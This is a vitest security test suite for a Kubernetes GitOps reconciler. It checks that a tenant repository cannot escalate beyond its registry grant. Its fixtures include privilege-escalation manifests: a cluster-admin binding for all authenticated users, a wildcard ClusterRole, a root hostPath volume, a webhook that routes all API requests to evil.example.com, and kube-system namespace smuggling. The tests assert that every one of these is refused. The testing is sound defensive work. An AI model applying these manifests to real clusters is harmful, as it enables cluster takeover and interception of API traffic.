/**
 * Attack suite, Kubernetes half of "tenants write only where the registry lets them": a repository granted
 * `namespaces: ["shop-*"]` tries to escalate through real commits, the webhook, the reconcile Lambda's code,
 * the drift check and the CLI, against the sandbox cluster. Every refusal is asserted by its text, by the
 * ledger record, and by what the cluster received: no write at all.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { main } from '../../lib/cli/main.js';
import type { Registry } from '../../lib/config/schema.js';
import { checkTarget } from '../../lib/drift/check-target.js';
import { TARGET_ID_ANNOTATION, TARGET_LABEL, targetLabelValue } from '../../lib/core/ownership.js';
import { reconcileTarget } from '../../lib/reconcile/reconcile-target.js';
import { pushPayload, REPO, startPipeline } from '../support/pipeline.js';
import type { Pipeline } from '../support/manifests.js';

type Obj = Record<string, unknown>;

const TARGETS = [
  ['crb', 'shop-a'],
  ['star-role', 'shop-a'],
  ['host-pv', 'shop-a'],
  ['webhook', 'shop-a'],
  ['cluster-cr', 'shop-a'],
  ['live-crd-cr', 'shop-a'],
  ['helm-crd', 'shop-a'],
  ['shop-dev', 'shop-a'],
  ['foreign', 'shop-a'],
  ['other-ns', 'shop-a'],
  ['prune-label', 'shop-a'],
  ['prune-ns', 'shop-a'],
  ['granted', 'shop-a'],
  ['ns-role', 'shop-a'],
] as const;
const config = (extra = '') =>
  `version: 1\ntargets:\n${TARGETS.map(([name, ns]) => `  - name: ${name}\n    path: deploy/${name}\n    cluster: dev\n    namespace: ${ns}\n`).join('')}${extra}`;

const CLUSTER_ADMIN_BINDING = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: admin-all
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects:
  - {kind: Group, apiGroup: rbac.authorization.k8s.io, name: "system:authenticated"}
`;
const STAR_ROLE = (name: string) => `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: ${name}
rules:
  - {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}
`;
const HOST_PV = `apiVersion: v1
kind: PersistentVolume
metadata:
  name: root-disk
spec:
  capacity: {storage: 1Gi}
  accessModes: [ReadWriteOnce]
  hostPath: {path: /}
`;
const WEBHOOK = `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata:
  name: intercept-all
webhooks:
  - name: all.evil.example.com
    admissionReviewVersions: [v1]
    sideEffects: None
    clientConfig: {url: "https://evil.example.com/"}
    rules: [{apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*/*"]}]
`;
const crd = (plural: string, kind: string, scope: 'Cluster' | 'Namespaced') => ({
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: `${plural}.example.com` },
  spec: {
    group: 'example.com',
    scope,
    names: { plural, singular: kind.toLowerCase(), kind, listKind: `${kind}List` },
    versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } } }],
  },
});
const yamlOf = (o: unknown) => JSON.stringify(o);
// A cluster-scoped custom resource that names a namespace, to pass for namespaced.
const CR = (kind: string, name: string) => `apiVersion: example.com/v1\nkind: ${kind}\nmetadata:\n  name: ${name}\n  namespace: shop-a\nspec:\n  size: 1\n`;
const cm = (name: string, ns?: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\n${ns ? `  namespace: ${ns}\n` : ''}data:\n  k: v\n`;
const managedBy = (manager: string) => [{ manager, operation: 'Update', apiVersion: 'v1', time: '2026-01-01T00:00:00Z', fieldsType: 'FieldsV1', fieldsV1: { 'f:metadata': {} } }];

const WRITE_VERBS = new Set(['apply', 'create', 'update', 'patch', 'delete']);

describe('attack: Kubernetes objects outside the registry grant', () => {
  let p: Pipeline;
  let head: string;
  /** Writes (not dry runs) the dev cluster received since the last resetLog. */
  const writes = () => p.dev.requests.filter((r) => !r.dryRun && WRITE_VERBS.has(r.verb)).map((r) => `${r.method} ${r.path}`);
  const lastRecord = async (target: string) => (await p.ledger.history({ targetId: `${REPO}/${target}`, limit: 1 })).items[0];
  const registryWith = (grant: Obj): Registry => {
    const base = p.registry.repositories[REPO];
    if (!base) throw new Error('no grant');
    return { ...p.registry, repositories: { [REPO]: { ...base, ...grant } } };
  };
  /**
   * One reconcile of one target at the branch head, as the reconcile Lambda runs it (commit statuses, which
   * the first case checks and GitHub spaces a second apart, are left out here).
   */
  const sync = async (target: string, registry: Registry = p.registry) => {
    const source = Object.assign(Object.create(p.source) as typeof p.source, { setStatus: async () => undefined });
    await reconcileTarget({ repository: REPO, target, branch: 'main', trigger: 'trigger', force: true }, { ...p.deps, source, registry, holder: `attack-${target}` });
    return lastRecord(target);
  };

  beforeAll(async () => {
    p = await startPipeline();
    p.dev.createNamespace('shop-a');
    // Already on the cluster, put there by others.
    p.dev.put({ ...(parseYaml(STAR_ROLE('ops-team-role')) as Obj), metadata: { name: 'ops-team-role', managedFields: managedBy('kubectl-create') } });
    p.dev.put({
      ...crd('gadgets', 'Gadget', 'Namespaced'),
      metadata: { name: 'gadgets.example.com', labels: { 'app.kubernetes.io/managed-by': 'Helm' }, managedFields: managedBy('helm') },
    });
    p.dev.put({ ...crd('gizmos', 'Gizmo', 'Cluster'), metadata: { name: 'gizmos.example.com', managedFields: managedBy('helm') } });
    p.dev.put({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: {
        name: 'shared',
        namespace: 'shop-a',
        labels: { [TARGET_LABEL]: targetLabelValue('acme/other/prod') },
        annotations: { [TARGET_ID_ANNOTATION]: 'acme/other/prod' },
      },
      data: { owner: 'other' },
    });
    head = p.commit({
      'driftless.yaml': config(),
      'deploy/crb/crb.yaml': CLUSTER_ADMIN_BINDING,
      'deploy/star-role/role.yaml': STAR_ROLE('everything'),
      'deploy/host-pv/pv.yaml': HOST_PV,
      'deploy/webhook/vwc.yaml': WEBHOOK,
      'deploy/cluster-cr/crd.yaml': yamlOf(crd('widgets', 'Widget', 'Cluster')),
      'deploy/cluster-cr/widget.yaml': CR('Widget', 'w1'),
      'deploy/live-crd-cr/gizmo.yaml': CR('Gizmo', 'g1'),
      'deploy/helm-crd/crd.yaml': yamlOf({ ...crd('gadgets', 'Gadget', 'Namespaced'), metadata: { name: 'gadgets.example.com' } }),
      'deploy/shop-dev/role.yaml': STAR_ROLE('ops-team-role'),
      'deploy/foreign/cm.yaml': cm('shared'),
      'deploy/other-ns/cm.yaml': cm('sneaky', 'kube-system'),
      'deploy/other-ns/ns.yaml': 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: kube-public\n',
      'deploy/prune-label/keep.yaml': cm('keep'),
      'deploy/prune-label/detach.yaml': cm('detach'),
      'deploy/prune-ns/ns.yaml': 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: shop-tmp\n',
      'deploy/prune-ns/anchor.yaml': cm('anchor'),
      'deploy/granted/role.yaml': STAR_ROLE('shop-reader'),
      'deploy/granted/anchor.yaml': cm('granted-anchor'),
      // A built-in cluster-scoped kind that names a granted namespace, to pass for namespaced.
      'deploy/ns-role/role.yaml': STAR_ROLE('sneaky-role').replace('  name: sneaky-role\n', '  name: sneaky-role\n  namespace: shop-a\n'),
    });
  }, 120_000);
  afterAll(() => p?.stop());
  beforeEach(() => {
    expect(p.errors).toEqual([]);
    p.dev.resetLog();
  });

  const refusals: [string, string][] = [
    ['crb', 'ClusterRoleBinding/admin-all: cluster-scoped kind ClusterRoleBinding is not granted to acme/shop (registry clusterScoped)'],
    ['star-role', 'ClusterRole/everything: cluster-scoped kind ClusterRole is not granted to acme/shop (registry clusterScoped)'],
    ['host-pv', 'PersistentVolume/root-disk: cluster-scoped kind PersistentVolume is not granted to acme/shop (registry clusterScoped)'],
    ['webhook', 'ValidatingWebhookConfiguration/intercept-all: cluster-scoped kind ValidatingWebhookConfiguration is not granted to acme/shop (registry clusterScoped)'],
    ['cluster-cr', 'Widget/w1: cluster-scoped kind example.com/Widget is not granted to acme/shop (registry clusterScoped)'],
    ['live-crd-cr', 'Gizmo/g1: cluster-scoped kind example.com/Gizmo is not granted to acme/shop (registry clusterScoped)'],
    ['other-ns', 'ConfigMap/kube-system/sneaky: namespace "kube-system" is not allowed for acme/shop'],
    ['ns-role', 'ClusterRole/sneaky-role: cluster-scoped kind ClusterRole is not granted to acme/shop (registry clusterScoped)'],
  ];

  it('refuses every escalation of a signed push, records each target failed, and writes none of it', async () => {
    const res = await p.deliver('push', pushPayload('0'.repeat(40), head));
    expect(res.status).toBe(202);
    for (const [target, message] of refusals) {
      const rec = await lastRecord(target);
      expect(rec?.result, target).toBe('failed');
      expect(rec?.error?.message, target).toContain(message);
      expect(p.github.statuses.filter((s) => s.sha === head && s.context === `driftless/${target}`).pop()?.state, target).toBe('failure');
    }
    // The CRD of the cluster-cr render is refused as well (no grant for CustomResourceDefinition).
    expect((await lastRecord('cluster-cr'))?.error?.message).toContain('CustomResourceDefinition/widgets.example.com: cluster-scoped kind CustomResourceDefinition is not granted');
    expect(p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding', undefined, 'admin-all')).toBeUndefined();
    expect(p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRole', undefined, 'everything')).toBeUndefined();
    expect(p.dev.get('v1', 'PersistentVolume', undefined, 'root-disk')).toBeUndefined();
    expect(p.dev.get('admissionregistration.k8s.io/v1', 'ValidatingWebhookConfiguration', undefined, 'intercept-all')).toBeUndefined();
    expect(p.dev.get('apiextensions.k8s.io/v1', 'CustomResourceDefinition', undefined, 'widgets.example.com')).toBeUndefined();
    expect(p.dev.list('example.com/v1', 'Gizmo')).toEqual([]);
    expect(p.dev.get('v1', 'ConfigMap', 'kube-system', 'sneaky')).toBeUndefined();
    // The targets that stay inside the grant were applied.
    expect((await lastRecord('prune-label'))?.result).toBe('succeeded');
    expect((await lastRecord('prune-ns'))?.result).toBe('succeeded');
  }, 180_000);

  it.each(refusals)('refuses %s on a direct reconcile before any write', async (target, message) => {
    const rec = await sync(target);
    expect(rec?.result).toBe('failed');
    expect(rec?.error?.message).toContain(message);
    expect(writes()).toEqual([]);
    expect((await p.ledger.getState(`${REPO}/${target}`))?.inventory ?? []).toEqual([]);
  });

  it('refuses a Namespace outside the namespace patterns', async () => {
    const rec = await sync('other-ns');
    expect(rec?.error?.message).toContain('Namespace/kube-public: namespace "kube-public" is not allowed for acme/shop');
  });

  it('takes a cluster-scoped custom resource for cluster-scoped even when its CRD is granted and it names a namespace', async () => {
    const rec = await sync('cluster-cr', registryWith({ clusterScoped: ['apiextensions.k8s.io/CustomResourceDefinition'] }));
    expect(rec?.result).toBe('failed');
    expect(rec?.error?.message).toBe('Widget/w1: cluster-scoped kind example.com/Widget is not granted to acme/shop (registry clusterScoped); nothing was applied');
    expect(writes()).toEqual([]);
    // A bare kind grants Kubernetes' own groups only: `Widget` does not grant example.com/Widget.
    const bare = await sync('cluster-cr', registryWith({ clusterScoped: ['CustomResourceDefinition', 'Widget'] }));
    expect(bare?.error?.message).toContain('cluster-scoped kind example.com/Widget is not granted');
    expect(writes()).toEqual([]);
  });

  it('refuses to take over a CRD another tool installed, naming its managers, and leaves it untouched', async () => {
    const before = p.dev.get('apiextensions.k8s.io/v1', 'CustomResourceDefinition', undefined, 'gadgets.example.com');
    const rec = await sync('helm-crd', registryWith({ clusterScoped: ['CustomResourceDefinition'] }));
    expect(rec?.result).toBe('failed');
    expect(rec?.error?.message).toBe(
      "CustomResourceDefinition/gadgets.example.com exists and is not managed by acme/shop/helm-crd (managers: helm); the registry's `adopt` lets this repository take such objects over; nothing was applied",
    );
    expect(rec?.changeSet).toContainEqual(expect.objectContaining({ action: 'failed', ref: expect.objectContaining({ name: 'gadgets.example.com' }) }));
    expect(writes()).toEqual([]);
    expect(p.dev.get('apiextensions.k8s.io/v1', 'CustomResourceDefinition', undefined, 'gadgets.example.com')).toEqual(before);
  });

  it('refuses a ClusterRole kubectl created, then adopts it when the registry sets adopt', async () => {
    const granted = { clusterScoped: ['ClusterRole'] };
    const rec = await sync('shop-dev', registryWith(granted));
    expect(rec?.error?.message).toBe(
      "ClusterRole/ops-team-role exists and is not managed by acme/shop/shop-dev (managers: kubectl-create); the registry's `adopt` lets this repository take such objects over; nothing was applied",
    );
    expect(writes()).toEqual([]);
    const live = p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRole', undefined, 'ops-team-role') as { metadata: { labels?: Obj } };
    expect(live.metadata.labels?.[TARGET_LABEL]).toBeUndefined();

    const adopted = await sync('shop-dev', registryWith({ ...granted, adopt: true }));
    expect(adopted?.result).toBe('succeeded');
    expect(adopted?.changeSet).toEqual([
      { ref: { group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'ops-team-role' }, action: 'adopted', detail: expect.stringContaining('taken over') },
    ]);
    expect(adopted?.counts?.adopted).toBe(1);
    const after = p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRole', undefined, 'ops-team-role') as { metadata: { labels?: Obj } };
    expect(after.metadata.labels?.[TARGET_LABEL]).toBe(targetLabelValue(`${REPO}/shop-dev`));
    expect((await p.ledger.getState(`${REPO}/shop-dev`))?.inventory).toEqual([
      { group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'ops-team-role', origin: 'adopted', digest: expect.any(String), resourceVersion: expect.any(String) },
    ]);
    // Once ours it is an ordinary object: unchanged, and still recorded as adopted.
    const again = await sync('shop-dev', registryWith(granted));
    expect(again?.changeSet?.[0]?.action).toBe('unchanged');
    expect((await p.ledger.getState(`${REPO}/shop-dev`))?.inventory[0]?.origin).toBe('adopted');
  });

  it("always refuses another driftless target's object, adopt or not, naming that target", async () => {
    const rec = await sync('foreign', registryWith({ adopt: true }));
    expect(rec?.result).toBe('failed');
    expect(rec?.error?.message).toBe(
      'ConfigMap/shop-a/shared is managed by another driftless target, acme/other/prod; two targets must not manage one object; nothing was applied',
    );
    expect(writes()).toEqual([]);
    expect((p.dev.get('v1', 'ConfigMap', 'shop-a', 'shared') as { data: Obj }).data).toEqual({ owner: 'other' });
  });

  it('applies cluster-scoped kinds the registry grants, recorded as created', async () => {
    const rec = await sync('granted', registryWith({ clusterScoped: ['rbac.authorization.k8s.io/ClusterRole'] }));
    expect(rec?.result).toBe('succeeded');
    expect(rec?.counts?.created).toBe(2);
    expect(p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRole', undefined, 'shop-reader')).toBeDefined();
    expect((await p.ledger.getState(`${REPO}/granted`))?.inventory).toContainEqual({
      group: 'rbac.authorization.k8s.io',
      kind: 'ClusterRole',
      name: 'shop-reader',
      origin: 'created',
      digest: expect.any(String),
      resourceVersion: expect.any(String),
    });
  });

  it('refuses the drift check (and so self-heal) of a target whose grant was revoked', async () => {
    let healed = 0;
    const check = await checkTarget(`${REPO}/granted`, { ...p.deps, heal: async () => void healed++ });
    expect(check.error).toContain('ClusterRole/shop-reader: cluster-scoped kind ClusterRole is not granted to acme/shop (registry clusterScoped)');
    expect(healed).toBe(0);
    expect(writes()).toEqual([]);
  });

  it('does not prune a cluster-scoped object the grant no longer covers', async () => {
    head = p.commit({ 'deploy/granted/role.yaml': null });
    const rec = await sync('granted');
    expect(rec?.result).toBe('succeeded');
    expect(rec?.changeSet).toContainEqual({
      ref: { group: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'shop-reader' },
      action: 'skipped',
      detail: 'not pruned: ClusterRole/shop-reader: cluster-scoped kind ClusterRole is not granted to acme/shop (registry clusterScoped)',
    });
    expect(writes()).toEqual([]);
    expect(p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRole', undefined, 'shop-reader')).toBeDefined();
  });

  it('does not prune an object whose ownership label was removed, and says why', async () => {
    const live = p.dev.get('v1', 'ConfigMap', 'shop-a', 'detach') as { metadata: { labels: Obj } };
    delete live.metadata.labels[TARGET_LABEL];
    p.dev.put(live);
    head = p.commit({ 'deploy/prune-label/detach.yaml': null });
    const rec = await sync('prune-label');
    expect(rec?.result).toBe('succeeded');
    expect(rec?.changeSet).toContainEqual({
      ref: { group: '', kind: 'ConfigMap', namespace: 'shop-a', name: 'detach' },
      action: 'skipped',
      detail: expect.stringContaining(`not pruned: it does not carry ${TARGET_LABEL}=`),
    });
    expect(writes()).toEqual([]);
    expect(p.dev.get('v1', 'ConfigMap', 'shop-a', 'detach')).toBeDefined();
    expect((await p.ledger.getState(`${REPO}/prune-label`))?.inventory.map((r) => r.name)).toEqual(['keep']);
  });

  it('prunes a protected kind only when the registry grants it and the repository asks', async () => {
    head = p.commit({ 'deploy/prune-ns/ns.yaml': null });
    // The registry grants pruneKinds, the repository's allowKinds does not ask: not pruned.
    const rec = await sync('prune-ns', registryWith({ pruneKinds: ['Namespace'] }));
    expect(rec?.changeSet).toContainEqual({
      ref: { group: '', kind: 'Namespace', name: 'shop-tmp' },
      action: 'skipped',
      detail: 'not pruned: deleting a Namespace needs prune.allowKinds: [Namespace]',
    });
    expect(writes()).toEqual([]);
    expect(p.dev.get('v1', 'Namespace', undefined, 'shop-tmp')).toBeDefined();
  });

  it('refuses a repository that grants itself prune.allowKinds the registry does not, writing nothing', async () => {
    const escalated = config().replace(
      '  - name: prune-ns\n    path: deploy/prune-ns\n    cluster: dev\n    namespace: shop-a\n',
      '  - name: prune-ns\n    path: deploy/prune-ns\n    cluster: dev\n    namespace: shop-a\n    prune:\n      allowKinds: [Namespace]\n',
    );
    head = p.commit({ 'driftless.yaml': escalated });
    const rec = await sync('prune-ns');
    expect(rec?.result).toBe('failed');
    expect(rec?.error?.message).toMatch(/^driftless\.yaml:\d+:\d+ targets\[11\]\.prune\.allowKinds\[0\]: kind Namespace is not granted to acme\/shop \(registry pruneKinds\)$/);
    expect(writes()).toEqual([]);
    expect(p.dev.get('v1', 'Namespace', undefined, 'shop-tmp')).toBeDefined();
    // Granted by the registry and asked for by the repository: pruned.
    const granted = await sync('prune-ns', registryWith({ pruneKinds: ['Namespace'] }));
    expect(granted?.result).toBe('succeeded');
    expect(granted?.changeSet).toContainEqual({ ref: { group: '', kind: 'Namespace', name: 'shop-tmp' }, action: 'deleted', detail: 'pruned' });
    head = p.commit({ 'driftless.yaml': config() });
  });

  it('ignores a push from a repository named like an Object.prototype property', async () => {
    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
      const res = await p.deliver('push', pushPayload(head, head, 'main', name));
      expect(res.body, name).toEqual({ status: 'ignored', reason: `repository ${name} is not registered` });
    }
    expect(p.dev.requests).toEqual([]);
  });

  it('refuses the same escalation through the CLI sync with a registry file', async () => {
    const registryFile = join(p.dir, 'registry.json');
    writeFileSync(registryFile, JSON.stringify(p.registry));
    let stderr = '';
    const code = await main(['sync', '--repo', p.repoDir, '--target', 'crb', '--registry', registryFile, '--repository', REPO], {
      stdout: () => undefined,
      stderr: (s) => (stderr += s),
      cwd: p.dir,
      isTTY: false,
      env: {},
    });
    expect(code).not.toBe(0);
    expect(stderr).toContain('ClusterRoleBinding/admin-all: cluster-scoped kind ClusterRoleBinding is not granted to acme/shop (registry clusterScoped)');
    expect(writes()).toEqual([]);
    expect(p.dev.get('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding', undefined, 'admin-all')).toBeUndefined();
  });
});
